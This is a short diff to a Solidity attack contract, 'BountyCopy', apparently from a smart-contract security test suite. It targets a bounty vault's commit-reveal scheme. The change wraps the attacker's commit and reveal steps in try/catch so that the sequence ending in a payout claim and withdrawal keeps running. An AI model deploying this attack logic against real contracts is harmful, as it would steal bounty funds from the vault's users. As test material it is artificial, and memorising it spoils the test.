@@ -87,14 +87,16 @@ contract BountyCopy is Attack {
             return;
         }
         if (step > 0) try vault.reveal(REPORT, SALT, address(this)) {} catch {}
-        if (step == 1 || step == 3) {
-            vault.commitReport(vault.commitOf(REPORT, bytes32(step), address(this)));
-            vault.reveal(REPORT, bytes32(step), address(this));
-        }
+        if (step == 1 || step == 3) try this.commitOwn(bytes32(step)) {} catch {}
         if (step == 4) {
             try vault.payout(vault.commitOf(REPORT, bytes32(uint256(1)), address(this))) {} catch {}
             vault.withdraw();
         }
+    }
+
+    function commitOwn(bytes32 salt) external {
+        vault.commitReport(vault.commitOf(REPORT, salt, address(this)));
+        vault.reveal(REPORT, salt, address(this));
     }
 
     /// 10 % of a million at risk.
